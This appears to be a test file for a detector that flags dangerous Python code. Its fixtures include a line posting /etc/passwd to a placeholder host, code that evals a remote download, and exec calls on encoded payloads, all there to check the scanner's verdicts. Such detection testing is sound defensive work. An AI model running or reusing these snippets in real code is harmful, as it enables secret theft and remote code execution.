import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { observed } from '../testing/observed.js'
import { python } from './python.js'

const look = (text: string) => observed(python, text, { name: 'x' })
const MODELING = `"""A small model. It does not call os.system()."""
import math
from typing import Optional, Tuple

import torch
import torch.nn as nn
from transformers import PreTrainedModel
from .configuration_small import SmallConfig

logger = logging.get_logger(__name__)
_CHECKPOINT = "small"
pattern = re.compile(r"a+")


class SmallModel(PreTrainedModel):
    config_class = SmallConfig

    def __init__(self, config: SmallConfig):
        super().__init__(config)
        self.act = nn.GELU()
        self.rate = getattr(config, "rate", 0.1)

    @torch.no_grad()
    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None) -> Tuple[torch.Tensor, ...]:
        self.eval()
        with open(self.path) as handle:
            handle.read()
        return f"{x.shape} {self.act(x)}"

if __name__ == "__main__":
    print(SmallModel(SmallConfig()))
`

test('ordinary modeling code is listed, not flagged', async () => {
  expect(await look(MODELING)).toMatchObject({ detected: 'yes', verdict: 'unknown', rules: ['python.source'] })
})

test('calls over several lines do not end the statement', async () => {
  const text =
    'import os\nclass A(\n    B,\n    C,\n):\n    x = f(\n        1,\n    ).y\n    if (a and\n            b):\n        pass\nos.system(\n    "id",\n)\n'
  expect(await look(text)).toMatchObject({ detected: 'yes', verdict: 'suspicious' })
})

test.each([
  '# Model\nRun `os.system("ls")`? No. Use torch.load(weights_only=True). eval() is bad.',
  'This is a model card. It says import os somewhere.',
  'MIT License\n\nCopyright (c) someone',
  '{"a": 1}',
  'a: 1\nb: [2]\n',
  'numpy==1.26\ntorch>=2.0\n',
  '#!/bin/sh\necho "hello"\n',
  'function f(x) { return eval(x) }',
  'the\nquick\nbrown',
  '{% if x %}{{ y }}{% endif %}',
  '@echo off\nrem nothing\n',
  '<html><script>alert(1)</script></html>',
  'label_one\nlabel_two\n',
])('%j is no Python', async (text) => {
  expect((await look(text)).detected).toBe('no')
})

describe('what runs on import', () => {
  test.each([
    ['import os\nos.system("id")', 'os.system'],
    ['import os as o\no.popen("id")', 'os.popen'],
    ['from os import system as s\ns("id")', 'os.system'],
    ['from subprocess import (\n  run,\n  Popen as P,\n)\nP(["id"])', 'subprocess.Popen'],
    ['__import__("os").system("id")', 'os.system'],
    ['import importlib\nimportlib.import_module("sub" + "process").run("id")', 'subprocess.run'],
    ['import os\ngetattr(os, "system")("id")', 'os.system'],
    ['import os\ngetattr(os, name)("id")', 'os.'],
    ['import os\nrun = os.system\nrun("id")', 'os.system'],
    ['class A:\n    import os\n    os.system("id")', 'os.system'],
    ['import os\ndef f(x=os.system("id")):\n    pass', 'os.system'],
    ['import os\nif True:\n    try:\n        os.system("id")\n    except Exception:\n        pass', 'os.system'],
    ['import os\nx = [os.system(c) for c in commands]', 'os.system'],
    ['import os\nx = f"{os.system(1)}"', 'os.system'],
    ['import socket\ns = socket.socket()', 'socket.socket'],
    ['import urllib.request\nurllib.request.urlopen("http://a.example")', 'urllib.request.urlopen'],
    ['import requests\nrequests.post("http://a.example", data=open("/etc/passwd").read())', 'requests.post'],
    ['import ctypes\nctypes.CDLL("./x.so")', 'ctypes.CDLL'],
    ['eval("1+1")', 'eval'],
    ['import pickle\npickle.load(open("x", "rb"))', 'pickle.load'],
    ['open("/tmp/x", "w").write("y")', 'open'],
    ['import os\ndef f():\n    pass\nos.system("id")', 'os.system'],
  ])('%j', async (text, callable) => {
    const seen = await look(text)
    expect(seen.verdict).toBe('suspicious')
    expect(seen.observations.map(({ location }) => location['callable']).join()).toContain(callable)
  })
  test.each([
    'import base64\nexec(base64.b64decode("aWQ="))',
    'import zlib\ndef f():\n    exec(zlib.decompress(data).decode())',
    'import urllib.request\neval(urllib.request.urlopen("http://a.example").read())',
    'exec("".join(map(chr, [112, 114])))',
    'exec(bytes([112]).decode())',
  ])('%j is malicious', async (text) => {
    expect((await look(text)).verdict).toBe('malicious')
  })
})

test.each([
  ['import os\ndef f():\n    os.system("id")', 'suspicious'],
  ['import os\nclass H:\n    def handle(self, data):\n        return os.popen(data).read()', 'suspicious'],
  ['def f(x):\n    return eval(x)', 'unknown'],
  ['import os\nif __name__ == "__main__":\n    os.remove("x")', 'safe'],
  ['import requests\ndef fetch(u):\n    return requests.get(u)', 'unknown'],
  ['import torch\nx = torch.zeros(1)', 'safe'],
])('%j: %s', async (text, verdict) => {
  expect((await look(text)).verdict).toBe(verdict)
})

test('other encodings are read, and tricky ones are malicious', async () => {
  const latin = new Uint8Array(Buffer.from('# -*- coding: latin-1 -*-\nimport os  # f\xfcr\nos.system("id")\n', 'latin1'))
  expect(await observed(python, latin)).toMatchObject({ detected: 'yes', verdict: 'suspicious' })
  expect((await look('# coding: utf-7\nimport math\n# +AAo-exec(1)\n')).verdict).toBe('malicious')
  expect((await look('# coding: utf-8\nimport math\n')).verdict).toBe('safe')
})

test('any text is taken without an error', async () => {
  const words = fc.constantFrom(
    'import',
    ' ',
    'os',
    '.',
    'system',
    '(',
    ')',
    '"',
    "'",
    '"""',
    '\n',
    '    ',
    'def',
    ':',
    'getattr',
    ',',
    'as',
    'from',
    '{',
    '}',
    'f"',
    '=',
    '+',
    '#',
    '\\',
    'x',
    '@',
    '[',
    ']',
    '__import__',
  )
  await fc.assert(
    fc.asyncProperty(fc.array(words, { maxLength: 50 }), async (parts) => {
      expect((await look(parts.join(''))).work).toBeLessThan(10_000)
    }),
    { numRuns: 1500 },
  )
})
